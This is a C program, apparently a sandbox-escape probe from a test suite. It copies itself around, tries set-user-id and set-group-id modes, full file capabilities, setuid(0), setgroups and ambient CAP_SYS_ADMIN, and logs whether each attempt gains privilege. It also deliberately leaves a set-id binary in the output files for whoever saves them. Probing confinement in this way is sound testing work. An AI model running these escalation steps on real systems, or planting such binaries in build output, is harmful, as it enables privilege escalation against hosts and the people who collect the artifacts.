/* Makes programs that would give whoever runs them other rights, and runs them. Leaves one behind for whoever
 * saves files. */
#include "attack.h"
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/xattr.h>

/* What the program is when it runs a second time. */
static void tell(const char *how, uid_t before) {
    char line[256], caps[64] = "?", security[16];
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status)) sscanf(line, "CapEff: %63s", caps);
    snprintf(security, sizeof security, "%d", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    uid_t uids[3];
    gid_t gids[3];
    getresuid(&uids[0], &uids[1], &uids[2]);
    getresgid(&gids[0], &gids[1], &gids[2]);
    int same = uids[0] == before && uids[1] == before && uids[2] == before && gids[0] == gids[1] && gids[1] == gids[2];
    const char *ids = same ? "same ids" : named("uid %d euid %d gid %d egid %d", uids[0], uids[1], gids[0],
        gids[1]);
    report(named("ran as %s", how), named("%s, caps %s, nnp %s", ids, caps, security));
}

static int copy_to(const char *path) {
    char buffer[65536];
    int from = open("/proc/self/exe", O_RDONLY), to = open(path, O_CREAT | O_TRUNC | O_WRONLY, 0755);
    for (ssize_t length; (length = read(from, buffer, sizeof buffer)) > 0;) {
        if (write(to, buffer, (size_t)length) != length) return -1;
    }
    close(from);
    return close(to);
}

static long run(const char *path, const char *how) {
    pid_t child = fork();
    if (child == 0) {
        execl(path, path, how, named("%d", getuid()), (char *)NULL);
        _exit(errno);
    }
    int status;
    waitpid(child, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) != 0) {
        errno = WEXITSTATUS(status);
        return -1;
    }
    return 0;
}

/* A capability set as setcap would write it: everything, effective. */
static const struct {
    unsigned magic, permitted_low, inheritable_low, permitted_high, inheritable_high, root;
} EVERYTHING = {0x02000001, 0xffffffff, 0, 0xff, 0, 0}, IN_A_NAMESPACE = {0x03000001, 0xffffffff, 0, 0xff, 0, 0};

int main(int argc, char **argv) {
    if (argc > 2) {
        tell(argv[1], (uid_t)atoi(argv[2]));
        return 0;
    }
    tell("itself", getuid());
    const char *places[] = {"./suid", "/tmp/suid", "/build/suid", "/var/tmp/suid"};
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        const char *path = places[i];
        if (copy_to(path) == -1) continue;
        attempt(named("give %s to root", path), chown(path, 0, 0));
        attempt(named("give %s to nobody", path), chown(path, 65534, 65534));
        attempt(named("give %s to another user", path), chown(path, 1001, 1001));
        attempt(named("set-user-id %s", path), chmod(path, 04755));
        attempt(named("run %s", path), run(path, named("a set-user-id program in %s", path)));
        attempt(named("set-group-id %s", path), chmod(path, 02755));
        attempt(named("run %s again", path), run(path, named("a set-group-id program in %s", path)));
        attempt(named("capabilities for %s", path), setxattr(path, "security.capability", &EVERYTHING, 20, 0));
        attempt(named("capabilities of a namespace for %s", path), setxattr(path, "security.capability",
            &IN_A_NAMESPACE, 24, 0));
        attempt(named("run %s once more", path), run(path, named("a capable program in %s", path)));
    }
    attempt("setuid 0", setuid(0));
    attempt("setgid 0", setgid(0));
    attempt("setresuid 0", setresuid(0, 0, 0));
    attempt("setreuid to another", setreuid(1001, 1001));
    attempt("setgroups", syscall(SYS_setgroups, 1, &(gid_t){0}));
    long before = syscall(SYS_setfsuid, 0);
    report("setfsuid 0", syscall(SYS_setfsuid, -1) == before ? "unchanged" : "changed");
    attempt("no_new_privs off", prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
    const int sys_admin = 21;
    attempt("raise an ambient capability", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, sys_admin, 0, 0));
    /* What stays behind, to be saved by whoever asked for the files. */
    attempt("leave a set-id program behind", chmod("./suid", 07755));
    struct stat left;
    stat("./suid", &left);
    report("mode of what is left", named("%o", left.st_mode & 07777));
}
